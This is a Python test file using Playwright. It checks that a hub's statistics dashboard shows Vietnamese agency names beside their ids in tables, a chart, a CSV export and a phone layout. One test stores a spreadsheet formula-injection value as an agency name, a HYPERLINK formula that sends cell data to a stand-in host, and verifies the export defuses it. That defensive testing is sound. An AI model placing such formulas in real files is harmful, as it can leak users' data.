"""The dashboard names the agencies beside their ids: the matrix, the health table, the
volume chart and its CSV, in Vietnamese, on a desk and on a phone."""

from __future__ import annotations

from pathlib import Path

from tests.gateway.conftest import load_registry
from tests.stats.test_dashboard import dashboard, pytestmark  # noqa: F401  (browser, chromium)
from tests.stats.test_names import CIVIL, GONE, NAMES, POPULATION, named_registry, named_traffic

# Each header or cell that names an id: [the id it is of, the name shown, the id shown].
LABELS = """(sel) => [...document.querySelectorAll(sel)].map((el) => [el.dataset.id,
  el.querySelector('.name') ? el.querySelector('.name').innerText : null,
  el.querySelector('.id') ? el.querySelector('.id').innerText : el.innerText])"""

# How each name sits on the page: [its width, its height, its line height, its right edge].
BOXES = """(sel) => [...document.querySelectorAll(sel)].map((el) => {
  const box = el.getBoundingClientRect();
  return [box.width, box.height, parseFloat(getComputedStyle(el).lineHeight), box.right];
})"""


async def test_the_matrix_health_and_volume_name_each_id(sqlite_url: str, tmp_path: Path) -> None:
    await named_traffic(sqlite_url)
    async with dashboard(sqlite_url, tmp_path) as (page, problems):
        await page.wait_for_selector("body[data-loaded='yes']")
        columns = await page.evaluate(LABELS, "#matrix thead th[data-id]")
        rows = await page.evaluate(LABELS, "#matrix tbody th[data-id]")
        health = await page.evaluate(LABELS, "#health tbody th[data-id]")
        titles = await page.evaluate(
            "[...document.querySelectorAll('#matrix th[data-id]')].map(th => th.title)"
        )
        series = await page.evaluate(
            "Chart.getChart('volume').data.datasets.map(d => [d.label, d.key])"
        )
        tooltip = await page.evaluate(
            "(c => c.options.plugins.tooltip.callbacks.label({dataset: c.data.datasets[0],"
            " raw: 6, formattedValue: '6'}))(Chart.getChart('volume'))"
        )
        async with page.expect_download() as info:
            await page.click("#matrix-csv")
        await (await info.value).save_as(tmp_path / "matrix.csv")
    assert [POPULATION, NAMES[POPULATION], POPULATION] in columns
    assert ["", None, "(not identified)"] in columns
    assert [CIVIL, NAMES[CIVIL], CIVIL] in rows
    assert [GONE, None, GONE] in rows  # deleted since: its id alone
    assert NAMES[POPULATION] + "\n" + POPULATION in titles
    assert health == [[POPULATION, NAMES[POPULATION], POPULATION]]
    assert [NAMES[POPULATION], POPULATION] in series and ["(not identified)", ""] in series
    assert tooltip == [f"{NAMES[POPULATION]}: 6", POPULATION]
    saved = (tmp_path / "matrix.csv").read_bytes()
    # A spreadsheet that assumes the PC's code page reads the names right only after a BOM.
    assert saved.startswith(b"\xef\xbb\xbfclient,"), saved[:20]
    lines = saved.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "client,provider,count,succeeded,failed,client_name,provider_name"
    assert f"{CIVIL},{POPULATION},3,3,0,{NAMES[CIVIL]},{NAMES[POPULATION]}" in lines
    assert problems == []


async def test_the_csv_marks_a_name_a_spreadsheet_would_run(
    sqlite_url: str, tmp_path: Path
) -> None:
    """As `hub stats matrix --csv` does: a cell starting with = + - @ gets a leading quote."""
    await named_traffic(sqlite_url)
    doc = named_registry()
    doc["members"][1]["name"] = '=HYPERLINK("http://example.invalid/?"&A1)'
    await load_registry(sqlite_url, doc)
    async with dashboard(sqlite_url, tmp_path) as (page, problems):
        await page.wait_for_selector("body[data-loaded='yes']")
        async with page.expect_download() as info:
            await page.click("#matrix-csv")
        await (await info.value).save_as(tmp_path / "matrix.csv")
    lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8-sig").splitlines()
    row = next(line for line in lines if line.startswith(f"{CIVIL},"))
    assert ',"\'=HYPERLINK(""http://example.invalid/?""&A1) · Hệ thống' in row, row
    assert problems == []


async def test_long_names_wrap_on_a_phone(sqlite_url: str, tmp_path: Path) -> None:
    await named_traffic(sqlite_url)
    async with dashboard(sqlite_url, tmp_path, width=375) as (page, problems):
        await page.wait_for_selector("body[data-loaded='yes']")
        health = await page.evaluate(BOXES, "#health tbody th[data-id] .name")
        client = await page.evaluate(BOXES, f"#matrix tbody th[data-id='{CIVIL}'] .name")
        widths = await page.evaluate(
            "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        legend = await page.evaluate("Chart.getChart('volume').legend.legendItems.map(i => i.text)")
        chart = await page.evaluate("Chart.getChart('volume').width")
        shown = await page.locator("#health tbody th[data-id] .name").inner_text()
    assert widths[0] <= widths[1], widths  # the page itself never scrolls sideways
    # "Bộ Công an · Cơ sở dữ liệu quốc gia về dân cư" on several lines, inside the screen.
    (width, height, line, right) = health[0]
    assert round(height / line) >= 2 and right <= 375, health  # two lines: 39.19 px of 19.6
    assert client[0][0] <= 200 and client[0][1] >= 2 * client[0][2], client  # a row of its own
    assert shown == NAMES[POPULATION]  # its diacritics as sent
    # The legend cuts a long name to fit the chart; the tooltip has it whole.
    assert all(len(t) * 6 < chart for t in legend), (legend, chart)
    assert any(t.startswith("Bộ Công an") and t.endswith("…") for t in legend), legend
    assert problems == []
